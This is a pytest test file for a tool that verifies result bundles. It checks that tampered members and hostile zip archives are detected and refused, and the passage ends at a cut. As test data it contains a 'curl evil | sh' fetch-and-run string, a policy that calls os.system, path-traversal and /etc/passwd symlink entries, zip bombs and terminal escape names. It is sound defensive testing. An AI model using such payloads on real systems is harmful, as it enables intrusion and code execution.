"""A bundle that was altered is caught, whoever altered it; nothing in it is run or believed."""

import io
import json
import os
import re
import socket
import stat
import struct
import zipfile

import pandas as pd
import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet as pq
import pytest

from sim.questions.bundle import pack as bundle
from sim.questions.bundle import verify as verification
from sim.questions.bundle.crate import CRATE, described
from sim.questions.bundle.redraw import REDRAW, pictures
from sim.questions.bundle.verify import MONTHS, RUNS, verify
from sim.questions.bundle.words import headline
from sim.study import folder
from sim.study.crew import Crew
from sim.study.differences import differences
from sim.study.experiment import Experiment
from sim.study.identity import digest_of, version
from sim.study.indicators import BY_NAME
from sim.study.precision import gather, goal_of
from sim.study.store import Store
from sim.study.user_policy import load as own
from sim.world import scenario as scenarios
from sim.world.errors import BadInput
from sim.world.programme import Change, Incident, programme

MANIFEST, SCENARIO = "result/manifest.json", "result/scenario.toml"
COMPARISON = "result/comparison.parquet"
EVIL = '''
"""Evil: leaves a trace when it is run."""

import os
from typing import NamedTuple

from policies.contract import Rate, rule, share

os.system("touch {trace}")


class Terms(NamedTuple):
    rate: Rate = 0.20


@rule
def credit(terms, account):
    """Credit the originator."""
    return share(originator=1.0)
'''


def studied(asked, place, goal=None):
    """Write the result folder of a small study, and return it packed."""
    experiment = Experiment(asked, Crew("compiled"))
    reached = gather(experiment, goal)
    results = experiment.results()
    study = folder.Study(asked, results, differences(results), goal, reached)
    place.mkdir()
    folder.save(place, study)
    pictures(place, study, None)
    return bundle.pack(place).content


@pytest.fixture(scope="module")
def small():
    split = programme("later", "split_reward", rate=0.1)
    choice = programme(
        "choice", "client_choice", changes=[Change(6, split)], incidents=[Incident(3, 0.1)]
    )
    return scenarios.load()._replace(
        name="small",
        partners=40,
        clients=600,
        years=1,
        burn_in_months=12,
        seeds=3,
        baseline="lock",
        programmes=(programme("lock", "first_sale_lock"), choice),
    )


@pytest.fixture(scope="module")
def packed(small, tmp_path_factory):
    return studied(small, tmp_path_factory.mktemp("study") / "result")


@pytest.fixture
def checked(tmp_path):
    """Write bytes to a file and verify it."""

    def check(content, **options):
        path = tmp_path / "theirs.bundle"
        path.write_bytes(content)
        return verify(path, at_once=1, **options)

    return check


def members(content):
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist() if "/" in name}


def with_member(content, name, new):
    """Return a bundle with another member, and digests that fit it, as its author could make."""
    return bundle.archive({**members(content), name: new})


def with_table(content, name, change):
    """Return such a bundle in which a table was changed, in Parquet and CSV."""
    table = pd.read_parquet(io.BytesIO(members(content)[f"result/{name}.parquet"]))
    changed = change(table)
    sink, text = io.BytesIO(), io.BytesIO()
    arrow = pa.Table.from_pandas(changed if changed is not None else table, preserve_index=False)
    pq.write_table(arrow, sink)
    content = with_member(content, f"result/{name}.parquet", sink.getvalue())
    if any(pa.types.is_nested(field.type) for field in arrow.schema):
        return content
    pa.csv.write_csv(arrow, text, pa.csv.WriteOptions(quoting_style="needed"))
    return with_member(content, f"result/{name}.csv", text.getvalue())


def with_manifest(content, change):
    """Return such a bundle in which the manifest was changed."""
    manifest = json.loads(members(content)[MANIFEST])
    change(manifest)
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    return with_member(content, MANIFEST, text.encode())


def next_digit(content):
    """Return a text with one of its digits changed."""
    at = re.search(rb"\d(?=\D*\Z)", content).start()
    return content[:at] + (b"8" if content[at : at + 1] != b"8" else b"7") + content[at + 1 :]


# --- an honest bundle --------------------------------------------------------------------------


def test_a_sound_bundle_is_verified_in_every_member(checked, packed):
    found = checked(packed, draw=REDRAW)
    assert (found.altered, found.faults, found.by_digest, found.untrusted) == ((), (), (), ())
    assert found.is_sound
    assert found.is_whole
    assert (found.repeated, found.runs) == (6, 6)
    assert found.made_with == found.here


def test_without_drawing_pictures_are_named_and_nothing_is_whole(checked, packed):
    pictures = ("result/policy-by-indicator.png", "result/trajectories.png")
    found = checked(packed)
    assert found.by_digest == found.unchecked == pictures
    assert not found.is_whole


def test_both_engines_verify_a_bundle(checked, packed):
    found = checked(packed, engine="mesa", sample=1)
    assert found.is_sound
    assert found.repeated == 1


def test_the_same_folder_gives_the_same_bytes(packed, tmp_path):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        file.extractall(tmp_path)
    assert bundle.pack(tmp_path / "result").content == packed
    names = set(members(packed))
    assert {"policies/client_choice.py", "policies/split_reward.py", MANIFEST, RUNS} <= names


def with_description(content, new):
    """Return a bundle that is described otherwise; None: not at all."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(sink, "w") as file:
        for info in old.infolist():
            if info.filename != CRATE or new is not None:
                file.writestr(info, new if info.filename == CRATE else old.read(info))
    return sink.getvalue()


def test_a_bundle_is_an_ro_crate_that_describes_every_file(packed, small):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        crate, names = json.loads(file.read(CRATE)), set(file.namelist())
    assert crate["@context"] == "https://w3id.org/ro/crate/1.1/context"
    graph = {entity["@id"]: entity for entity in crate["@graph"]}
    assert len(graph) == len(crate["@graph"])
    assert graph[CRATE]["about"] == {"@id": "./"}
    assert graph[CRATE]["conformsTo"] == {"@id": "https://w3id.org/ro/crate/1.1"}
    root, study = graph["./"], graph["#study"]
    assert (root["@type"], root["description"]) == ("Dataset", small.question)
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", root["datePublished"])
    assert {part["@id"] for part in root["hasPart"]} == names - {CRATE}
    told = [*root["hasPart"], *root["mentions"].values(), *study["object"], *study["result"]]
    assert {one["@id"] if isinstance(one, dict) else one for one in told} <= set(graph)
    assert all("File" in graph[name]["@type"] for name in names - {CRATE})
    assert graph["#partnersim"]["softwareVersion"] == version()


def test_a_description_that_says_something_else_is_caught(checked, packed):
    for other in (b"", b"{}", json.dumps({"@graph": []}).encode()):
        (one,) = checked(with_description(packed, other)).altered
        assert one == (CRATE, "is not the description of its members")


def test_a_bundle_without_a_description_is_read_as_before(packed, tmp_path):
    path = tmp_path / "older.bundle"
    path.write_bytes(with_description(packed, None))
    opened = bundle.open_bundle(path)
    assert (opened.altered, opened.members) == ([], members(packed))


@pytest.mark.parametrize("manifest", [b"", b"[]", b'{"inputs": 1, "question": {}}', b"[" * 100_000])
def test_whatever_a_manifest_is_its_bundle_can_be_described(manifest):
    crate = json.loads(described({MANIFEST: manifest}, bundle.INDEX))
    assert crate["@graph"][1]["description"] == ""


def test_the_sample_follows_from_the_digest(packed, tmp_path, monkeypatch):
    picked = []

    def noted(case, keys, *_, **__):
        picked.append([tuple(key) for key in keys])
        return iter(())

    monkeypatch.setattr(verification, "repeat", noted)
    path, other = tmp_path / "one.bundle", tmp_path / "other.bundle"
    path.write_bytes(packed)
    for sample in (2, 2, 3, 99):
        verify(path, sample=sample)
    first, again, more, every = picked
    assert first == again
    assert set(first) < set(more)
    assert (len(first), len(more), len(every)) == (2, 3, 6)
    lots = set()
    for number in range(20):
        other.write_bytes(with_member(packed, "result/story.json", str(number).encode()))
        verify(other, sample=1)
        lots.add(picked[-1][0])
    assert len(lots) >= 4


def test_nothing_is_taken_from_the_store(checked, packed, monkeypatch):
    monkeypatch.setattr(Store, "__init__", lambda *_: pytest.fail("the store was asked"))
    assert checked(packed).is_sound


@pytest.mark.parametrize(
    "name",
    [
        *("result/notes/council.md", "result/evil.js", "result/waterfall.png", "result/a.zip"),
        *("policies/not_used.py", "policies/deeper/client_choice.py", "result/deeper/runs.csv"),
    ],
)
def test_files_that_no_such_study_has_are_refused(checked, packed, name):
    with pytest.raises(BadInput, match="is no file of ours") as refusal:
        checked(with_member(packed, name, b"We met."))
    assert name in str(refusal.value)


# --- altered on the way ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        *(RUNS, MONTHS, COMPARISON, MANIFEST, SCENARIO, "policies/client_choice.py"),
        *("result/runs.csv", "result/months.csv", "result/comparison.csv"),
        *("result/trajectories.png", "result/policy-by-indicator.png"),
    ],
)
def test_one_digit_altered_in_a_member_is_caught_and_named(checked, packed, name):
    whole = members(packed)
    index = bundle.spell_index(bundle.digests(whole))
    whole[name] = next_digit(whole[name])
    sink = io.BytesIO(bundle.archive(whole))
    content = sink.getvalue()
    forged = {bundle.INDEX: index, CRATE: b"", **whole}
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as shape, zipfile.ZipFile(sink, "w") as file:
        for info in shape.infolist():
            file.writestr(info, forged[info.filename])
    found = checked(sink.getvalue())
    assert not found.is_sound
    assert [one.member for one in found.altered] == [name]
    assert found.repeated == 0


def test_no_flipped_byte_changes_what_is_read(packed, tmp_path):
    path = tmp_path / "flipped.bundle"
    honest, silent = members(packed), 0
    places = [*range(0, len(packed), len(packed) // 300), *range(len(packed) - 200, len(packed))]
    for place in places:
        path.write_bytes(packed[:place] + bytes([packed[place] ^ 1]) + packed[place + 1 :])
        try:
            opened = bundle.open_bundle(path)
        except BadInput:
            continue
        if not opened.altered:
            assert opened.members == honest
            silent += 1
    assert silent < len(places) / 4


def test_a_truncated_bundle_is_refused(packed, tmp_path):
    path = tmp_path / "short.bundle"
    for length in (0, 1, 30, len(packed) // 2, len(packed) - 1):
        path.write_bytes(packed[:length])
        with pytest.raises(BadInput, match="no bundle, or a damaged one"):
            bundle.open_bundle(path)


# --- altered by its author, with digests that fit ----------------------------------------------


def test_an_altered_run_is_named_with_both_values(checked, packed):
    true = pd.read_parquet(io.BytesIO(members(packed)[RUNS]))["npv"].iloc[4]

    def change(table):
        table.loc[4, "npv"] = true + 1e-8

    found = checked(with_table(packed, "runs", change))
    assert not found.is_sound
    fault = found.faults[0]
    assert fault.member == RUNS
    assert fault.where == {"programme": "choice", "seed": 2, "indicator": "npv"}
    assert (fault.stored, fault.recomputed) == (true + 1e-8, true)
    assert found.wrong_runs == 1


@pytest.mark.parametrize("indicator", ["npv", "client_churn", "survival_10y"])
def test_no_number_and_another_number_are_told_apart(checked, packed, indicator):
    def change(table):
        is_known = table.loc[1, indicator] == table.loc[1, indicator]
        table.loc[1, indicator] = float("nan") if is_known else 0.5

    (fault, *_) = checked(with_table(packed, "runs", change)).faults
    assert fault.where == {"programme": "lock", "seed": 2, "indicator": indicator}


def test_an_altered_month_is_named(checked, packed):
    def change(table):
        table.loc[30, "revenue"] += 0.01

    (fault, *_) = checked(with_table(packed, "months", change)).faults
    assert fault.member == MONTHS
    assert fault.where == {"programme": "lock", "seed": 2, "month": -7, "indicator": "revenue"}


def test_exchanged_columns_are_caught(checked, packed):
    def exchange(table):
        table[["npv", "commission"]] = table[["commission", "npv"]].to_numpy()

    def reorder(table):
        return table[[*table.columns[:2], *table.columns[2:-1][::-1], "digest"]]

    (fault, *_) = checked(with_table(packed, "runs", exchange)).faults
    assert fault.member == RUNS
    (one,) = checked(with_table(packed, "runs", reorder)).altered
    assert one.member == RUNS
    assert "column" in one.reason


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            lambda table: table.replace({"lock": "free_choice"}),
            "programme 'free_choice' where 'lock' must be",
        ),
        (lambda table: table.assign(seed=[1, 2, 4, 1, 2, 4]), "seed '4' where 3 must be"),
        (lambda table: table.iloc[:-1], "has 5 rows, not 6"),
        (lambda table: table.iloc[[0, 0, 2, 3, 4, 5]], "seed '1' where 2 must be"),
        (lambda table: table.assign(npv=table["npv"].astype(str)), "no column of numbers"),
        (lambda table: table.assign(more=1.0), "columns, not"),
        (lambda table: table.assign(npv=[[1.0]] * 6), "no numbers and no text"),
    ],
)
def test_a_table_of_other_runs_is_caught(checked, packed, change, told):
    (one,) = checked(with_table(packed, "runs", change)).altered
    assert one.member == RUNS
    assert told in one.reason


@pytest.mark.parametrize("column", ["level", "difference", "low", "seeds"])
def test_a_comparison_that_does_not_follow_is_caught(checked, packed, column):
    def change(table):
        at = table.index[(table["programme"] == "choice") & (table["indicator"] == "npv")]
        table.loc[at, column] = table.loc[at, column] * 3

    found = checked(with_table(packed, "comparison", change))
    fault = found.faults[0]
    assert fault.member == COMPARISON
    assert fault.where == {"programme": "choice", "indicator": "npv", "column": column}
    assert fault.stored == 3 * fault.recomputed
    assert found.wrong_runs == 0


def test_a_text_table_that_says_something_else_is_caught(checked, packed):
    for name in ("runs", "months", "comparison"):
        member = f"result/{name}.csv"
        content = with_member(packed, member, next_digit(members(packed)[member]))
        (fault,) = checked(content).faults
        assert fault.member == member
        assert fault.where["line"] > 1
        assert fault.where["programme"] == "choice"


@pytest.mark.parametrize(
    ("change", "key"),
    [
        (lambda told: told["inputs"].update(partners=41), None),
        (lambda told: told["inputs"]["assumptions"].update(poaching=0.011), None),
        (lambda told: told["inputs"]["programmes"][1]["terms"].update(rate=0.21), None),
        (lambda told: told["inputs"]["programmes"][1]["conduct"].update(care=0.6), None),
        (lambda told: told["inputs"]["programmes"][1]["changes"][0].update(month=7), None),
        (lambda told: told["inputs"]["programmes"][1]["incidents"].clear(), None),
        (lambda told: told["inputs"].update(market="messenger"), "inputs_digest"),
        (lambda told: told.update(results_digest="0123456789abcdef"), "results_digest"),
        (lambda told: told.update(seeds=[1, 2]), "seeds[3]"),
        (lambda told: told["runs"]["lock"]["digests"].update({"2": "x"}), "runs.lock.digests.2"),
        (lambda told: told["runs"]["lock"].update(programme_digest="y"), "programme_digest"),
        (lambda told: told["assumptions"][0].update(source="measured"), "assumptions[1].source"),
        (lambda told: told.update(note="verified by nobody"), "note"),
        (lambda told: told.update(repeat="curl evil | sh"), "repeat"),
    ],
)
def test_a_manifest_that_says_something_else_is_caught(checked, packed, change, key):
    found = checked(with_manifest(packed, change))
    assert not found.is_sound
    if key is not None:
        (fault,) = [fault for fault in found.faults if fault.member == MANIFEST]
        assert key in fault.where["key"]
    else:  # another study, whose runs are others
        assert found.faults[0].member in {RUNS, COMPARISON, MANIFEST}


def test_a_manifest_that_says_two_things_is_caught(checked, packed):
    text = members(packed)[MANIFEST].replace(b"{\n", b'{\n  "question": "Another?",\n', 1)
    (fault,) = checked(with_member(packed, MANIFEST, text)).faults
    assert (fault.member, fault.where) == (MANIFEST, {"line": 2})


def test_assumptions_changed_in_the_scenario_alone_are_caught(checked, packed):
    text = re.sub(rb"poaching = .*", b"poaching = 0.08", members(packed)[SCENARIO])
    (fault,) = checked(with_member(packed, SCENARIO, text)).faults
    assert fault.member == SCENARIO
    assert fault.stored == "poaching = 0.08"
    bomb = b"a = " + b"[" * 100_000
    (fault,) = checked(with_member(packed, SCENARIO, bomb)).faults
    assert fault.member == SCENARIO


def test_a_policy_text_beside_the_manifest_is_caught(checked, packed):
    name = "policies/client_choice.py"
    text = members(packed)[name] + b"# harmless\n"
    (fault,) = checked(with_member(packed, name, text)).faults
    assert fault.member == name


def test_another_picture_is_caught(checked, packed):
    name = "result/trajectories.png"
    content = with_member(packed, name, members(packed)["result/policy-by-indicator.png"])
    (fault,) = checked(content, draw=REDRAW).faults
    assert fault.member == name


def test_another_version_is_told_and_compared_nevertheless(checked, packed):
    def older(told):
        told["inputs"]["version"] = "0.0.9+000000000000"
        told["inputs_digest"] = digest_of(told["inputs"])

    found = checked(with_manifest(packed, older))
    assert found.made_with == "0.0.9+000000000000" != found.here
    assert found.is_sound
    assert found.repeated == 6


def test_seeds_that_a_goal_would_not_have_stopped_at_are_caught(checked, small, tmp_path):
    goal = goal_of("40%", "npv")
    asked = small._replace(seeds=10)
    content = studied(asked, tmp_path / "precise", goal)
    assert checked(content).is_sound
    more = studied(asked._replace(seeds=14), tmp_path / "more")

    def claim(told):
        told["inputs"].update(seeds=10, precision=goal._asdict())

    faults = checked(with_manifest(more, claim), sample=1).faults
    assert {"key": "seeds"} in [fault.where for fault in faults]


# --- policies of one's own ---------------------------------------------------------------------


@pytest.fixture
def with_evil(small, tmp_path):
    """Return a bundle with a policy of somebody's own, and the trace that running it leaves."""
    trace, path = tmp_path / "was_run", tmp_path / "evil.py"
    path.write_text(EVIL.format(trace=trace), encoding="utf-8")
    policy = own.from_file(path)
    asked = small._replace(seeds=2, programmes=(*small.programmes, programme(policy.name, policy)))
    content = studied(asked, tmp_path / "evil")
    trace.unlink()
    return content, trace


def test_code_in_a_bundle_is_not_run_unless_it_is_trusted(checked, with_evil):
    content, trace = with_evil
    found = checked(content)
    assert not trace.exists()
    assert found.untrusted == ("evil",)
    assert (found.repeated, found.runs) == (4, 6)
    assert found.is_sound
    assert not found.is_whole
    found = checked(content, trust=True, draw=REDRAW)
    assert trace.exists()
    assert found.is_sound
    assert found.is_whole
    assert found.repeated == 6


def test_a_shipped_name_does_not_make_code_trusted(checked, packed, tmp_path):
    trace = tmp_path / "was_run"
    text = EVIL.format(trace=trace)

    def replace_text(told):
        told["inputs"]["incumbent"]["source"] = text
        told["inputs"]["programmes"][0]["source"] = text

    content = with_manifest(packed, replace_text)
    content = with_member(content, "policies/first_sale_lock.py", text.encode())
    found = checked(content)
    assert not trace.exists()
    assert found.untrusted == ("first_sale_lock",)
    assert found.repeated == 0
    assert not found.is_whole


# --- no bundle of ours -------------------------------------------------------------------------


def zipped(*parts, kind=stat.S_IFREG, index=True):
    """Return a zip archive of names and contents, whatever they are."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in [*([(bundle.INDEX, b"{}")] if index else []), *parts]:
            info = zipfile.ZipInfo(name)
            info.external_attr = ((stat.S_IFREG if name == bundle.INDEX else kind) | 0o644) << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            file.writestr(info, content)
    return sink.getvalue()


def declaring(size):
    """Return an archive whose directory declares a size that its content does not have."""
    content = bytearray(zipped(("result/a", b"x")))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(content)


HOSTILE = {
    "text": (b"no archive at all", "no bundle, or a damaged one"),
    "without an index": (zipped(("result/a", b""), index=False), "it has no bundle.json"),
    "an index of something else": (zipped(("result/a", b"")), "bundle.json is damaged"),
    "a path upwards": (zipped(("result/../../evil", b"")), "no name of a member"),
    "an absolute path": (zipped(("/etc/passwd", b"")), "no name of a member"),
    "a path of Windows": (zipped(("result/..\\evil", b"")), "no name of a member"),
    "a drive": (zipped(("C:/evil", b"")), "no name of a member"),
    "a name cut short": (
        zipped(("result/a~.png", b"")).replace(b"~", b"\0"),
        "no name of a member",
    ),
    "a hidden file": (zipped(("result/.bashrc", b"")), "no name of a member"),
    "a name that a terminal obeys": (zipped(("result/\x1b[2J", b"")), "no name of a member"),
    "a link": (zipped(("result/a", b"/etc/passwd"), kind=stat.S_IFLNK), "a link or no file"),
    "a device": (zipped(("result/a", b""), kind=stat.S_IFCHR), "a link or no file"),
    "one name twice": (zipped(("result/a", b"1"), ("result/A", b"2")), "have one name"),
    "many members": (zipped(*((f"result/{n}", b"") for n in range(1_100))), "at most 1000"),
    "a bomb": (zipped(*((f"result/{n}", bytes(2**27)) for n in range(9))), "it would have 1152 MB"),
    "a huge declared size": (declaring(2**32 - 2), "it would have 4096 MB"),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_archive_is_refused_before_anything_in_it_is_used(name, tmp_path):
    content, told = HOSTILE[name]
    path = tmp_path / "hostile.bundle"
    path.write_bytes(content)
    with pytest.raises(BadInput, match=re.escape(told)) as refusal:
        verify(path)
    assert str(refusal.value).isprintable()


def test_an_encrypted_member_is_refused(packed, tmp_path):
    content = bytearray(packed)
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    path = tmp_path / "locked.bundle"
    path.write_bytes(content)
    with pytest.raises(BadInput, match="encrypted"):
        verify(path)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda told: told.clear(), "required and missing"),
        (lambda told: told.update(inputs=[]), "inputs"),
        (lambda told: told["inputs"].update(partners="many"), "partners"),
        (lambda told: told["inputs"].update(clients=10**12), "clients"),
        (lambda told: told["inputs"].update(years=1e300), "years"),
        (lambda told: told["inputs"].update(seeds=True), "seeds"),
        (lambda told: told["inputs"].update(seeds=10**9), "seeds"),
        (lambda told: told["inputs"].update(baseline="nobody"), "baseline"),
        (lambda told: told["inputs"].update(programmes=[]), "programmes"),
        (lambda told: told["inputs"]["programmes"].append(1), "programmes"),
        (lambda told: told["inputs"]["assumptions"].update(poaching=float("nan")), "poaching"),
        (lambda told: told["inputs"]["assumptions"].update(poaching=9.0), "poaching"),
        (lambda told: told["inputs"]["assumptions"].update({"__class__": 1.0}), "__class__"),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update(rate=7.0), "rate"),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update(_fields=1), "_fields"),
        (lambda told: told["inputs"]["programmes"][0].update(policy="../../os"), "policy"),
        (lambda told: told["inputs"]["programmes"][0].update(name="\x1b[2J"), "printed"),
        (lambda told: told["inputs"]["programmes"][1].update(incidents=[[1]]), "inputs"),
        (lambda told: told["inputs"]["programmes"][1].update(incidents=[[1, 9.0, ""]]), "harm"),
        (lambda told: told.update(engine="abacus"), "engine"),
        (lambda told: told["inputs"].update(precision={"share": 0.1}), "precision"),
        (lambda told: told["inputs"].update(basis="friendship"), "basis"),
    ],
)
def test_a_manifest_that_nothing_can_be_simulated_from_is_refused(checked, packed, change, told):
    with pytest.raises(BadInput, match=re.escape(told)) as refusal:
        checked(with_manifest(packed, change))
    assert str(refusal.value).replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "text", [b"", b"null", b"{", b"[" * 100_000, b"\xff\xfe", b'{"a": ' + b"9" * 5_000 + b"}"]
)
def test_a_manifest_that_is_none_is_refused(checked, packed, text):
    with pytest.raises(BadInput, match=r"manifest\.json"):
        checked(with_member(packed, MANIFEST, text))


@pytest.mark.parametrize("content", [b"", b"PAR1", b"PAR1" + bytes(100) + b"PAR1", b"\x80\x04."])
def test_a_table_that_is_none_is_told(checked, packed, content):
    (one,) = checked(with_member(packed, RUNS, content)).altered
    assert one.member == RUNS
    assert "cannot be read" in one.reason


def test_a_table_of_a_billion_rows_is_not_read(checked, packed):
    sink = io.BytesIO()
    column = pa.array([1.0]).take(pa.array([0] * 2_000_000, pa.int32()))
    pq.write_table(pa.table({"npv": column}), sink)
    (one,) = checked(with_member(packed, RUNS, sink.getvalue())).altered
    assert one.reason == "has 2000000 rows, not 6"


def test_a_missing_member_is_told(checked, packed):
    whole = members(packed)
    del whole[MONTHS]
    (one,) = checked(bundle.archive(whole)).altered
    assert one == (MONTHS, "is missing")
    assert all(name in BY_NAME for name in ("npv", "client_churn"))


# --- packing -----------------------------------------------------------------------------------


def test_only_results_are_packed(tmp_path):
    with pytest.raises(BadInput, match="no such folder"):
        bundle.pack(tmp_path / "nowhere")
    with pytest.raises(BadInput, match="holds no results"):
        bundle.pack(tmp_path)


def test_what_nobody_could_check_is_left_out_and_named(packed, tmp_path):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        file.extractall(tmp_path)
    place = tmp_path / "result"
    (place / ".hidden").write_text("", encoding="utf-8")
    assert bundle.pack(place)[0::2] == (packed, [])
    (place / "odd name.txt").write_text("", encoding="utf-8")
    (place / "link").symlink_to("/etc/passwd")
    os.mkfifo(place / "pipe")
    content, _, left_out = bundle.pack(place)
    assert content == packed
    assert left_out == ["link", "odd name.txt", "pipe"]


def test_what_is_no_regular_file_is_not_packed(packed, tmp_path):
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        file.extractall(tmp_path)
    place = tmp_path / "result"
    (place / "runs.csv").unlink()
    os.mkfifo(place / "runs.csv")
    with pytest.raises(BadInput, match=r"runs\.csv: is a pipe, not a file"):
        bundle.pack(place)
    (place / "runs.csv").unlink()
    (place / "runs.csv").symlink_to("/etc/passwd")
    with pytest.raises(BadInput, match=r"runs\.csv: is a link"):
        bundle.pack(place)


@pytest.mark.parametrize("kind", ["folder", "pipe", "socket", "device"])
def test_what_is_no_regular_file_is_not_opened(kind, tmp_path, monkeypatch):
    path = tmp_path / "theirs.bundle"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "socket":
        monkeypatch.chdir(tmp_path)  # a socket's name is short
        socket.socket(socket.AF_UNIX).bind(path.name)
    else:
        path.symlink_to("/dev/zero")
    with pytest.raises(BadInput, match=f"is a {kind}, not a file"):
        verify(path)


# --- what a reader or a decoder makes of a table -------------------------------------------------


def retold(content, name, change):
    """Return a bundle in which a table tells pandas something else about itself."""
    table = pq.read_table(io.BytesIO(members(content)[f"result/{name}.parquet"]))
    told = json.loads(table.schema.metadata[b"pandas"])
    change(told)
    sink = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({b"pandas": json.dumps(told).encode()}), sink)
    return with_member(content, f"result/{name}.parquet", sink.getvalue())


def exchange_names(told):
    columns = {column["name"]: column for column in told["columns"]}
    columns["npv"]["name"], columns["commission"]["name"] = "commission", "npv"


@pytest.mark.parametrize(
    "change",
    [
        exchange_names,
        lambda told: told.update(index_columns=["npv"]),
        lambda told: told["columns"][3].update(numpy_type="period[M]"),
    ],
)
def test_columns_that_pandas_would_show_as_others_are_caught(checked, packed, change):
    (one,) = checked(retold(packed, "runs", change)).altered
    assert one.member == RUNS
    assert "pandas" in one.reason


@pytest.mark.parametrize("elsewhere", [False, True])
def test_what_a_table_says_about_itself_is_compared(checked, packed, elsewhere):
    content = retold(packed, "comparison", lambda told: told["attributes"].update(years=10))
    if elsewhere:
        content = with_manifest(content, lambda told: told.update(machine="an abacus"))
    faults = [one for one in checked(content, sample=1).faults if one.member == COMPARISON]
    assert [one.where for one in faults] == [{"key": "attributes"}]


def test_summaries_of_columns_that_do_not_fit_are_caught(checked, packed):
    table = pq.read_table(io.BytesIO(members(packed)[RUNS]))
    sink = io.BytesIO()
    pq.write_table(table, sink, write_statistics=False)
    (fault,) = checked(with_member(packed, RUNS, sink.getvalue()), sample=1).faults
    assert (fault.member, fault.stored) == (RUNS, "another file of the same cells")


def test_a_short_file_that_spreads_to_much_text_is_not_read(checked, packed):
    table = pq.read_table(io.BytesIO(members(packed)[RUNS]))
    long = pa.DictionaryArray.from_arrays([0] * len(table), ["x" * 30_000_000])
    at = table.column_names.index("digest")
    sink = io.BytesIO()
    pq.write_table(
        table.set_column(at, "digest", long), sink, store_schema=False, compression="zstd"
    )
    assert len(sink.getvalue()) < 100_000
    (one,) = checked(with_member(packed, RUNS, sink.getvalue())).altered
    assert "more text than any of ours" in one.reason


@pytest.mark.parametrize("other", [["x"], [None], [True]])
def test_months_that_are_no_numbers_are_told(checked, packed, other):
    content = with_table(packed, "months", lambda table: table.assign(mrr=other * len(table)))
    (one,) = checked(content).altered
    assert (one.member, one.reason) == (MONTHS, "column 'mrr' holds no numbers")


def test_a_goal_that_no_study_of_these_numbers_has_is_told_beside_the_wrong_run(checked, packed):
    goal = {"share": 0.01, "indicator": "npv", "max_seeds": 100}

    def ask(told):
        told["inputs"]["precision"], told["seeds"] = goal, [1, 2, 3]

    content = with_table(packed, "runs", lambda table: table.assign(npv=float("nan")))
    found = checked(with_manifest(content, ask), sample=1)
    assert [one.member for one in found.faults] == [RUNS, MANIFEST]


# --- what a manifest may not say ----------------------------------------------------------------


def two_texts(told):
    told["inputs"]["programmes"][0]["source"] = "x = 1"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (two_texts, "two policies called first_sale_lock"),
        (lambda told: told["inputs"]["programmes"][1]["changes"][0].pop("changes"), "changes"),
        (
            lambda told: told["inputs"]["programmes"][1]["changes"][0].update(changes=[1]),
            "changes.0.changes",
        ),
        (
            lambda told: told["inputs"].update(
                seeds=100_000,
                programmes=[
                    {**told["inputs"]["programmes"][0], "name": name}
                    for name in ("lock", *"abcdefghij")
                ],
            ),
            "1100000 runs",
        ),
        (lambda told: told["inputs"]["programmes"][0]["terms"].update({"\x1b[2J": 1}), "x1b[2J"),
        (lambda told: told["versions"].update({"\x1b[2J": "1"}), "x1b[2J"),
        (lambda told: told["inputs"]["assumptions"].update({"\x1b[2J": 1.0}), "x1b[2J"),
        (lambda told: told["inputs"].update(partners="x" * 10**6), "partners"),
    ],
)
@pytest.mark.parametrize("trust", [False, True])
def test_a_manifest_of_a_stranger_is_refused_in_a_line(checked, packed, change, said, trust):
    with pytest.raises(BadInput, match=re.escape(said)) as refusal:
        checked(with_manifest(packed, change), trust=trust)
    assert str(refusal.value).isprintable()
    assert len(str(refusal.value)) < 1_000


# --- bytes that belong to no member ---------------------------------------------------------------


def with_bytes_between(content, extra):
    """Return an archive with bytes between its members and its directory, found all the same."""
    at = struct.unpack("<I", content[-6:-2])[0]
    moved = content[:at] + extra + content[at:-6] + struct.pack("<I", at + len(extra))
    return moved + content[-2:]


def with_remark(content, remark):
    """Return an archive with a remark at its end."""
    return content[:-2] + struct.pack("<H", len(remark)) + remark


def with_local_extra(content, name):
    """Return an archive that says two things about a member's length."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        at = file.getinfo(name).header_offset
    return content[: at + 28] + struct.pack("<H", 4) + content[at + 30 :]


def with_unpacked_tail(content, name):
    """Return an archive in which a member's packed bytes go on behind its end."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(sink, "w") as new:
        for info in old.infolist():
            new.writestr(info, old.read(info))
    whole = bytearray(sink.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(whole))) as file:
        infos = file.infolist()
        info = next(one for one in infos if one.filename == name)
        start = file.start_dir
    behind = info.header_offset + len(info.FileHeader()) + info.compress_size
    tail = b"evil"
    struct.pack_into("<I", whole, info.header_offset + 18, info.compress_size + len(tail))
    at = start
    for one in infos:
        if one is info:
            struct.pack_into("<I", whole, at + 20, info.compress_size + len(tail))
        if one.header_offset > info.header_offset:
